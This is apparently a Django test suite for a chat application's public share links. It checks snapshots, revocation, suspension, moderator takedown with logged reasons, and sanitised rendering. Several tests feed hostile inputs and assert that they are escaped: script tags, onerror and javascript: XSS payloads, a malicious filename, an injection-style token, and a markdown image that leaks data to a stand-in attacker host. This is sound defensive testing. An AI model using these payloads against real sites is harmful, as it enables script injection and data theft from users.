"""Share links: a read-only snapshot of a conversation at an unguessable address, revoked
by its owner, taken down by moderators, silent while its owner is suspended."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group
from django.test import Client
from django.utils import timezone

from accounts import services as account_services
from accounts.models import Suspension
from conversations import (
    attachment_services,
    attachments,
    services,
    share_selectors,
    share_services,
    turn_services,
)
from conversations.models import Conversation, Message, SharedMessage, ShareLink
from moderation.models import AccessLog
from tests.conftest import make_user
from tests.test_attachments import stored  # noqa: F401  # autouse: files kept apart per test

pytestmark = pytest.mark.django_db


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _turn(conversation: Conversation, question: str, answer: str, **kwargs: Any) -> Message:
    turn = turn_services.turn_start(
        conversation=conversation, text=question, generation_channel="c", **kwargs
    )
    services.message_finalize(message_id=turn.answer.pk, content=answer, status="complete")
    return turn.answer


@pytest.fixture
def owner() -> Any:
    make_user("first")  # the first account is a superuser; the owner is an ordinary user
    return make_user("gardener")


@pytest.fixture
def conversation(owner: Any) -> Conversation:
    conversation = services.conversation_create(owner=owner, model="m", title="Tomatoes")
    _turn(conversation, "How warm for tomatoes?", "About **twenty** degrees.")
    _turn(conversation, "And cucumbers?", "A little warmer.")
    return conversation


def _share(client: Client, conversation: Conversation, **data: str) -> str:
    """Create a share through the dialog's endpoint; the link it shows."""
    response = client.post(f"/conversations/{conversation.public_id}/share/", data)
    assert response.status_code == 200, response.content
    match = re.search(r'value="(http://testserver/share/[^"]+/)"', response.content.decode())
    assert match, response.content
    return match.group(1).removeprefix("http://testserver")


def test_signed_out_visitors_read_the_shared_path_rendered_as_in_the_chat(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    token = path.split("/")[2]
    assert len(token) >= 32
    assert str(conversation.public_id) not in path
    page = Client().get(path)
    assert page.status_code == 200
    html = page.content.decode()
    assert "How warm for tomatoes?" in html
    assert "<strong>twenty</strong>" in html
    assert "A little warmer." in html
    assert "Tomatoes" in html
    assert "ws-connect" not in html
    assert "composer" not in html


def test_the_shared_page_is_not_indexed_and_sends_no_referrer(
    owner: Any, conversation: Conversation
) -> None:
    page = Client().get(_share(_client(owner), conversation))
    assert '<meta name="robots" content="noindex, nofollow">' in page.content.decode()
    assert page["X-Robots-Tag"] == "noindex, nofollow"
    assert page["Referrer-Policy"] == "no-referrer"
    assert "no-store" in page["Cache-Control"]


def test_the_owners_name_is_shown_only_when_they_choose(
    owner: Any, conversation: Conversation
) -> None:
    client = _client(owner)
    anonymous = Client().get(_share(client, conversation)).content.decode()
    assert "gardener" not in anonymous
    named = Client().get(_share(client, conversation, show_owner_name="1")).content.decode()
    assert "Shared by" in named
    assert "gardener" in named


def test_a_share_is_a_snapshot_later_messages_edits_and_continues_do_not_appear(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    first_question = conversation.messages.get(content="How warm for tomatoes?")
    last_answer = conversation.messages.get(content="A little warmer.")
    _turn(conversation, "And peppers?", "Warmest of all.")  # a later message
    # An edit of the first question: a new version the owner now sees.
    _turn(conversation, "How cold for lettuce?", "Cool is fine.", edit_of=first_question.pk)
    # A continued answer changes its text in place.
    Message.objects.filter(pk=last_answer.pk).update(content="A little warmer. And more.")
    html = Client().get(path).content.decode()
    assert "How warm for tomatoes?" in html
    assert "A little warmer." in html
    for later in ("peppers", "Warmest", "lettuce", "Cool is fine", "And more"):
        assert later not in html


def test_share_up_to_an_answer_holds_only_the_path_to_it(
    owner: Any, conversation: Conversation
) -> None:
    first_answer = conversation.messages.get(content="About **twenty** degrees.")
    path = _share(_client(owner), conversation, up_to=str(first_answer.pk))
    html = Client().get(path).content.decode()
    assert "twenty" in html
    assert "cucumbers" not in html
    assert "A little warmer." not in html


def test_hostile_markdown_in_a_shared_answer_is_rendered_sanitised(owner: Any) -> None:
    conversation = services.conversation_create(owner=owner, model="m", title="x")
    _turn(
        conversation,
        "<img src=x onerror=alert(1)>",
        '<script>alert(1)</script> [click](javascript:alert(1)) <b onclick="x()">b</b> '
        "![pixel](https://attacker.example/?q=secret)",
    )
    html = Client().get(_share(_client(owner), conversation)).content.decode()
    body = html.split('class="shared-messages"', 1)[1]
    assert "<script>" not in body
    assert "<img" not in body  # the user's text is escaped, the image a plain link
    assert "&lt;img src=x onerror=alert(1)&gt;" in body
    assert 'href="javascript:' not in body
    assert "<b onclick" not in body
    assert 'src="https://attacker.example' not in body


def test_revoked_shares_are_the_sites_404(owner: Any, conversation: Conversation) -> None:
    client = _client(owner)
    path = _share(client, conversation)
    share = ShareLink.objects.get()
    settings_page = client.get("/settings/").content.decode()
    assert path in settings_page
    assert "Tomatoes" in settings_page
    response = client.post(f"/settings/shares/{share.pk}/revoke/", HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert "Revoked" in response.content.decode()
    gone = Client().get(path)
    assert gone.status_code == 404
    assert "Page not found" in gone.content.decode()
    assert path not in client.get("/settings/").content.decode()


def test_unknown_and_malformed_tokens_are_404() -> None:
    for path in (
        "/share/" + "A" * 32 + "/",
        "/share/x/",
        "/share/%00%27--/",
        "/share/" + "a" * 90 + "/",
    ):
        assert Client().get(path).status_code == 404


def test_a_suspended_owners_shares_stop_serving_and_come_back_when_lifted(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    suspension = Suspension.objects.create(user=owner, reason="Spam.")
    assert Client().get(path).status_code == 404
    suspension.lifted_at = timezone.now()
    suspension.save()
    assert Client().get(path).status_code == 200
    owner.is_active = False  # deactivated
    owner.save()
    assert Client().get(path).status_code == 404


def test_deleting_the_conversation_or_the_account_removes_its_shares(
    owner: Any, conversation: Conversation
) -> None:
    client = _client(owner)
    path = _share(client, conversation)
    services.conversation_delete(conversation=conversation)
    assert not ShareLink.objects.exists()
    assert not SharedMessage.objects.exists()
    assert Client().get(path).status_code == 404
    other = services.conversation_create(owner=owner, model="m", title="Beans")
    _turn(other, "q", "a")
    _share(client, other)
    account_services.user_delete(user=owner)
    assert not ShareLink.objects.exists()


def test_other_users_cannot_share_or_revoke_what_is_not_theirs(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    share = ShareLink.objects.get()
    stranger = _client(make_user("stranger"))
    response = stranger.post(f"/conversations/{conversation.public_id}/share/")
    assert response.status_code == 404
    assert stranger.post(f"/settings/shares/{share.pk}/revoke/").status_code == 404
    assert ShareLink.objects.count() == 1
    assert Client().get(path).status_code == 200
    assert path not in stranger.get("/settings/").content.decode()
    # Signed out: no share is made.
    assert Client().post(f"/conversations/{conversation.public_id}/share/").status_code == 302


def test_an_answer_still_being_written_or_an_unknown_one_is_refused(owner: Any) -> None:
    conversation = services.conversation_create(owner=owner, model="m", title="x")
    turn_services.turn_start(conversation=conversation, text="q", generation_channel="c")
    client = _client(owner)
    response = client.post(f"/conversations/{conversation.public_id}/share/")
    assert response.status_code == 422
    assert "still being written" in response.content.decode()
    response = client.post(f"/conversations/{conversation.public_id}/share/", {"up_to": "99999"})
    assert response.status_code == 422
    assert "does not exist" in response.content.decode()
    assert not ShareLink.objects.exists()


def test_share_creation_is_limited_per_hour(
    owner: Any, conversation: Conversation, settings: Any
) -> None:
    settings.CHATSITE_SHARES_PER_HOUR = 2
    client = _client(owner)
    _share(client, conversation)
    _share(client, conversation)
    response = client.post(f"/conversations/{conversation.public_id}/share/")
    assert response.status_code == 422
    assert "Try again in" in response.content.decode()
    assert ShareLink.objects.count() == 2


def test_a_message_hidden_by_moderation_later_is_hidden_in_the_share(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    Message.objects.filter(content="A little warmer.").update(hidden=True)
    html = Client().get(path).content.decode()
    assert "A little warmer." not in html
    assert "Hidden by moderation." in html
    # The title was written from the conversation's messages: it may repeat what was
    # hidden, so the page no longer shows it.
    assert "Tomatoes" not in html
    assert "Shared conversation" in html


def test_a_link_checker_may_ask_for_the_shared_page_with_head(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    assert Client().head(path).status_code == 200
    assert Client().post(path).status_code == 405


def _moderator() -> Client:
    user = make_user("mod")
    user.is_staff = True
    user.save()
    user.groups.add(Group.objects.get(name="Moderators"))
    return _client(user)


def test_moderators_take_a_share_down_with_a_reason_and_it_is_recorded(
    owner: Any, conversation: Conversation
) -> None:
    path = _share(_client(owner), conversation)
    share = ShareLink.objects.get()
    moderator = _moderator()
    listing = moderator.get("/admin/conversations/sharelink/?state=active").content.decode()
    assert "Tomatoes" in listing
    assert "gardener" in listing
    assert "twenty" not in listing  # no message text in the list
    asked = moderator.post(
        "/admin/conversations/sharelink/",
        {"action": "take_down", "_selected_action": [share.pk]},
    )
    assert asked.status_code == 200
    assert "Reason" in asked.content.decode()
    assert Client().get(path).status_code == 200  # nothing happens without a reason
    done = moderator.post(
        "/admin/conversations/sharelink/",
        {
            "action": "take_down",
            "_selected_action": [share.pk],
            "take_down_reason": "Doxxing.",
        },
    )
    assert done.status_code == 302
    assert Client().get(path).status_code == 404
    share.refresh_from_db()
    assert share.taken_down_reason == "Doxxing."
    assert share.taken_down_by is not None
    entry = LogEntry.objects.get(object_id=str(share.pk))
    assert "Doxxing." in entry.get_change_message()
    taken = moderator.get("/admin/conversations/sharelink/?state=taken_down").content.decode()
    assert "Tomatoes" in taken
    # The owner sees it marked, and cannot bring the same link back.
    settings_page = _client(owner).get("/settings/").content.decode()
    assert "Taken down by a moderator" in settings_page
    assert path not in settings_page
    share_services.share_revoke(share=share)
    assert Client().get(path).status_code == 404


def test_reading_a_share_in_admin_asks_for_a_reason_and_is_logged(
    owner: Any, conversation: Conversation
) -> None:
    _share(_client(owner), conversation)
    share = ShareLink.objects.get()
    moderator = _moderator()
    page = moderator.get(f"/admin/conversations/sharelink/{share.pk}/change/")
    assert page.status_code == 200
    assert "twenty" not in page.content.decode()
    assert not AccessLog.objects.exists()
    moderator.post(
        f"/admin/conversations/sharelink/{share.pk}/reason/",
        {"access_reason": "Reported as abusive."},
    )
    log = AccessLog.objects.get()
    assert log.reason == "Reported as abusive."
    assert log.conversation_id == conversation.pk
    page = moderator.get(f"/admin/conversations/sharelink/{share.pk}/change/")
    assert "<strong>twenty</strong>" in page.content.decode()


def test_a_shared_messages_files_are_named_escaped_and_never_linked(
    owner: Any, conversation: Conversation
) -> None:
    name = "<img src=x onerror=alert(1)>.txt"
    inspected = attachments.inspect(name=name, data=b"Sow in March.")
    kept = attachment_services.attachment_file_store(owner_id=owner.pk, data=inspected.data)
    file = attachment_services.attachment_create(
        owner=owner, name=name, inspected=inspected, stored=kept
    )
    _turn(conversation, "Here is my plan", "A fine plan.", attachment_ids=[str(file.public_id)])
    path = _share(_client(owner), conversation)
    html = Client().get(path).content.decode()
    assert "&lt;img src=x onerror=alert(1)&gt;.txt" in html
    assert "<img src=x" not in html
    assert "not shared" in html
    assert "/attachments/" not in html
    assert str(file.public_id) not in html
    # Moderators read the same names in admin (after giving a reason), escaped too.
    moderator = _moderator()
    share = ShareLink.objects.get()
    moderator.post(
        f"/admin/conversations/sharelink/{share.pk}/reason/", {"access_reason": "Reported."}
    )
    snapshot = moderator.get(f"/admin/conversations/sharelink/{share.pk}/change/")
    assert "Attached (not shared): &lt;img src=x onerror=alert(1)&gt;.txt" in (
        snapshot.content.decode()
    )
    # The file itself stays private: signed out, or signed in as anyone else.
    download = f"/attachments/{file.public_id}/"
    assert Client().get(download).status_code == 302  # to the sign-in page
    assert _client(make_user("stranger")).get(download).status_code == 404
    # Hidden by moderation later: the file's name goes with the text.
    Message.objects.filter(content="Here is my plan").update(hidden=True)
    assert "onerror" not in Client().get(path).content.decode()


def test_links_past_the_settings_list_are_counted_and_revoke_all_ends_every_one(
    owner: Any, conversation: Conversation, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(share_selectors, "SHARES_LISTED", 2)
    client = _client(owner)
    paths = [_share(client, conversation) for _ in range(3)]
    page = client.get("/settings/").content.decode()
    assert page.count('class="share-url"') == 2
    assert "And 1 older link, not listed here." in page
    assert "Revoke all 3 links" in page

    response = client.post("/settings/shares/revoke-all/", HTTP_HX_REQUEST="true")
    assert "Revoked 3 links: they no longer open." in response.content.decode()
    for path in paths:
        assert Client().get(path).status_code == 404
    # Another user's revoke-all leaves the owner's other links alone.
    other = make_user("stranger")
    kept = _share(client, conversation)
    _client(other).post("/settings/shares/revoke-all/")
    assert Client().get(kept).status_code == 200
